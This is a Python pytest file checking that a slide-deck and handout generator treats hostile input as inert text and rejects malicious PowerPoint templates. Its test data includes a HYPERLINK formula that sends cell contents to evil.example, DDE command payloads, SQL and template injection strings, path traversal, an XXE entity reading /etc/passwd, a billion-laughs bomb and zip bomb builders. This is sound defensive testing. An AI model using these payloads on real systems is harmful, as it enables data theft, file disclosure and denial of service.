"""S11: what people hand in does nothing but stand there as text: commentary, wording, a brand's own .pptx."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import psycopg
import pytest
from pptx import Presentation

from reports.decks import build_deck
from reports.decks.brand import Brand
from reports.decks.builder import gather_deck
from reports.decks.packages import flaw_of
from reports.decks.rendering import render
from reports.decks.snapshots import decode
from reports.decks.templates import TemplateUnusable, open_template
from reports.paper.handout import write_handout
from reports.paper.pages import html
from tests.reports import marts, reading
from tests.reports.test_deck_validity import own_template
from warehouse.frozen_decks import write_comment

PLACE = (marts.ORGANIZATION, marts.QUARTER)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} %(name)s {0.__class__}",
    "<script>alert(1)</script> &xxe; ]]> <a:t>x</a:t>",
    "'; drop table app.deck_comments; --",
)
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'.replace("&lol0;", "&lol;") for n in range(1, 10))
    + "]><a>&lol9;</a>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def said(content: bytes) -> str:
    deck = Presentation(io.BytesIO(content))
    return "\n".join(text for page in deck.slides for text in (*reading.texts(page), *reading.notes(page)))


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_commentary_stands_on_slide_handout_and_page_as_it_was_typed(
    fernhill: psycopg.Connection, tmp_path: Path, words: str
) -> None:
    write_comment(
        fernhill, *PLACE[:1], quarter=marts.QUARTER, deck="company", client_id="all", comment=words, written_by="ada"
    )
    built = build_deck(fernhill, "company", *PLACE, tmp_path)
    assert words in said(built.path.read_bytes())
    record = render(decode(built.snapshot_path.read_bytes())).record
    write_handout(record, built.snapshot_sha256, tmp_path / "handout.xlsx")
    parts = [
        content.decode("utf-8", "replace")
        for _, content in reading.every_byte((tmp_path / "handout.xlsx").read_bytes())
    ]
    assert [part for part in parts if "<f>" in part or "<f " in part] == [], "nothing calculates"
    assert any(escape(words) in part for part in parts)
    assert "<script" not in html(built.path.read_bytes())
    assert fernhill.execute("select count(*) from app.deck_comments").fetchone() == (1,)


@pytest.mark.parametrize("words", [*HOSTILE, "one\x0btwo\x1fthree\x08\ufffe four"])
def test_hostile_wording_and_footers_of_a_brand_stand_as_text(warehouse: psycopg.Connection, words: str) -> None:
    """Characters that XML cannot hold are left out; with them no program would open the file."""
    told = {"company": {"title": words, "fleet": words}}
    marts.whole_organization(warehouse, settings={"brand": {"wording": told, "footer": words}})
    drawn = render(gather_deck(warehouse, "company", *PLACE)).content
    clean = words.replace("\x0b", "").replace("\x1f", "").replace("\x08", "").replace("\ufffe", "")
    assert clean in said(drawn)
    assert Presentation(io.BytesIO(drawn)).core_properties.title == clean


def test_hostile_names_of_clients_reach_no_path(warehouse: psycopg.Connection, tmp_path: Path) -> None:
    marts.whole_organization(warehouse)
    warehouse.execute("update marts.dim_clients set name = '../../../etc/passwd\"><script>' "
                      "where client_id = 'juniper-dental'")  # fmt: skip
    built = build_deck(warehouse, "client", *PLACE, tmp_path / "out", client_id="juniper-dental")
    assert built.path.resolve().is_relative_to((tmp_path / "out").resolve())
    assert {path.name for path in tmp_path.iterdir()} == {"out"}


def changed(part: str, content: bytes) -> bytes:
    """The second brand's template with one part put in another's place, or added."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(own_template())) as source, zipfile.ZipFile(written, "w") as target:
        for name in source.namelist():
            if name != part:
                target.writestr(name, source.read(name), zipfile.ZIP_DEFLATED)
        target.writestr(part, content, zipfile.ZIP_DEFLATED)
    return written.getvalue()


def many_parts() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as target:
        for number in range(2_001):
            target.writestr(f"ppt/media/{number}.bin", b"")
    return written.getvalue()


def lying() -> bytes:
    """A zip bomb that declares a part of ten bytes."""
    package = changed("ppt/media/bomb.xml", b"<a>" + b" " * 30_000_000 + b"</a>")
    true, claimed = (30_000_007).to_bytes(4, "little"), (10).to_bytes(4, "little")
    assert package.count(true) >= 2
    return package.replace(true, claimed)


def unpackable() -> bytes:
    """A part whose packed bytes are none that can be unpacked."""
    package = bytearray(own_template())
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        part = archive.getinfo("ppt/theme/theme1.xml")
    begins = part.header_offset + 30 + len(part.filename)
    package[begins : begins + 20] = b"\xff" * 20
    return bytes(package)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "entities that grow": (lambda: changed("ppt/theme/theme1.xml", BOMB.encode()), "declares a document type"),
    "the same, in UTF-16": (
        lambda: changed("ppt/theme/theme1.xml", BOMB.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")),
        "declares a document type",
    ),
    "an entity that reads a file": (
        lambda: changed("ppt/slideMasters/slideMaster1.xml", OUTSIDE.encode()),
        "declares a document type",
    ),
    "entities among the relations": (lambda: changed("_rels/.rels", BOMB.encode()), "declares a document type"),
    "a zip bomb": (lambda: changed("ppt/media/bomb.bin", b"0" * 40_000_000), "unpacks to more than 200 times"),
    "one part too large": (lambda: changed("ppt/media/bomb.bin", b"0" * 50_000_001), "50,000,000 is the most"),
    "a zip bomb that lies": (lying, r"is no \.pptx that can be opened"),
    "packed bytes that are broken": (unpackable, r"is no \.pptx that can be opened"),
    "too many parts": (many_parts, "2,001 parts"),
    "no archive": (lambda: b"PK\x03\x04 and nothing more", r"is no \.pptx that can be opened"),
    "broken XML": (lambda: changed("ppt/theme/theme1.xml", b"<a><b></a>"), "is no XML"),
    "a part twice": (lambda: changed("PPT/theme/theme1.xml", b"<a/>"), "two parts of one name"),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_a_hostile_template_is_refused_before_it_is_opened(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    make, words = REFUSED[kind]
    package = make()
    monkeypatch.setattr("reports.decks.templates.Presentation", lambda _: pytest.fail("it was opened"))
    with pytest.raises(TemplateUnusable, match=words) as refused:
        open_template(Brand("Fernhill IT", template=package))
    assert "The template of Fernhill IT" in str(refused.value)
    assert "no deck was drawn" in str(refused.value)


def test_an_honest_template_is_not_refused() -> None:
    assert flaw_of(own_template()) is None
